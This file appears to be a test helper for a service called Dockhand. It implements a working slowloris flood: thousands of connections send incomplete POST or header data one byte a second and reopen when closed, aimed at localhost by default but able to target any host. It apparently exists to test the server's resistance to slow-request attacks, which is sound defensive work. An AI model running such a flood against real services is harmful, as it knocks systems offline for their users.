"""A slow-request flood against Dockhand's HTTP front door (slowloris).

``python -m tests.fakes.flood --port P --connections N --seconds S`` opens N
connections to ``127.0.0.1:P`` and keeps them busy without ever finishing a
request, in three ways (a third each, ``--modes`` to choose):

* ``big``: ``POST /slack/events`` with a ``Content-Length`` of 10 MB, then one
  body byte a second (the flood of the issue);
* ``small``: the same with a ``Content-Length`` Slack could send (4,000),
  then one byte a second;
* ``headers``: the request line, then one header byte a second.

A connection the server closes (or answers) is opened again after
``--reopen`` seconds, as slowloris tools do, so the pressure stays on for
the whole run. At the end it prints one JSON object: connections opened,
closed by the server, answered with each status, refused at connect.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import json
import resource
import sys
import time

HEAD = (b"POST /slack/events HTTP/1.1\r\nHost: dockhand\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\n"
        b"X-Slack-Request-Timestamp: %d\r\nX-Slack-Signature: v0=%s\r\n")


class _Attacker(asyncio.Protocol):
    """One slow connection: its head at once (or the request line only), then
    one byte a tick (``Flood._tick``); notes how the server ends it."""

    def __init__(self, flood: "Flood", mode: str):
        self.flood, self.mode = flood, mode
        self.transport = None
        self.pending = b""
        self.answered = False

    def connection_made(self, transport) -> None:
        self.transport = transport
        f = self.flood
        f.stats["opened"] += 1
        f.open.add(self)
        f.max_open = max(f.max_open, len(f.open))
        head = HEAD % (int(time.time()), b"0" * 64)
        if self.mode == "headers":
            line = b"POST /slack/events HTTP/1.1\r\n"
            transport.write(line)
            self.pending = (head + b"Content-Length: 10\r\n\r\n")[len(line):]
        else:
            transport.write(head + (b"Content-Length: 10000000\r\n\r\n" if self.mode == "big"
                                    else b"Content-Length: 4000\r\n\r\n"))
            self.pending = b"x" * 4000

    def data_received(self, data: bytes) -> None:
        if not self.answered and data.startswith(b"HTTP/"):
            self.answered = True
            self.flood.stats["answered " + data.split(b" ", 2)[1].decode("ascii", "replace")] += 1

    def tick(self) -> None:
        if self.transport is not None and not self.transport.is_closing() and self.pending:
            self.transport.write(self.pending[:1])
            self.pending = self.pending[1:]

    def connection_lost(self, exc) -> None:
        f = self.flood
        f.open.discard(self)
        f.stats["reset by server" if exc is not None else "closed by server"] += 1
        self.transport = None
        if not f.stopped:
            asyncio.get_running_loop().call_later(f.reopen, f.connect, self.mode)


class Flood:
    def __init__(self, host: str, port: int, connections: int, seconds: float, *, modes=("big", "small", "headers"),
                 trickle: float = 1.0, reopen: float = 0.5):
        self.host, self.port, self.connections, self.seconds = host, port, connections, seconds
        self.modes, self.trickle, self.reopen = modes, trickle, reopen
        self.verbose = False
        self.stats: collections.Counter = collections.Counter()
        self.open: set[_Attacker] = set()
        self.max_open = 0
        self.stopped = False
        self._connecting: set[asyncio.Task] = set()

    def connect(self, mode: str) -> None:
        if self.stopped:
            return
        task = asyncio.ensure_future(self._connect(mode))
        self._connecting.add(task)
        task.add_done_callback(self._connecting.discard)

    async def _connect(self, mode: str) -> None:
        loop = asyncio.get_running_loop()
        try:
            await asyncio.wait_for(loop.create_connection(lambda: _Attacker(self, mode), self.host, self.port), 10)
        except (OSError, asyncio.TimeoutError):
            self.stats["connect failed"] += 1
            if not self.stopped:
                loop.call_later(self.reopen, self.connect, mode)

    async def run(self) -> dict:
        started = time.monotonic()
        for i in range(self.connections):
            self.connect(self.modes[i % len(self.modes)])
            if i % 100 == 99:
                await asyncio.sleep(0.01)  # not all in the same millisecond
        last_report = started
        while time.monotonic() - started < self.seconds:
            await asyncio.sleep(self.trickle)
            for attacker in list(self.open):
                attacker.tick()
            if self.verbose and time.monotonic() - last_report >= 1:
                last_report = time.monotonic()
                print(f"flood: open {len(self.open)} {dict(self.stats)}", file=sys.stderr, flush=True)
        self.stopped = True
        for task in list(self._connecting):
            task.cancel()
        for attacker in list(self.open):
            if attacker.transport is not None:
                attacker.transport.abort()
        await asyncio.sleep(0.1)
        return dict(self.stats, max_open=self.max_open)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=2000)
    p.add_argument("--seconds", type=float, default=30)
    p.add_argument("--modes", default="big,small,headers")
    p.add_argument("--reopen", type=float, default=0.5)
    p.add_argument("--verbose", action="store_true", help="the counts every second, on stderr")
    args = p.parse_args(argv)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.connections + 256
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    flood = Flood(args.host, args.port, args.connections, args.seconds, modes=tuple(args.modes.split(",")),
                  reopen=args.reopen)
    flood.verbose = args.verbose
    print("flood: started", file=sys.stderr, flush=True)
    stats = asyncio.run(flood.run())
    print(json.dumps(stats, sort_keys=True), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
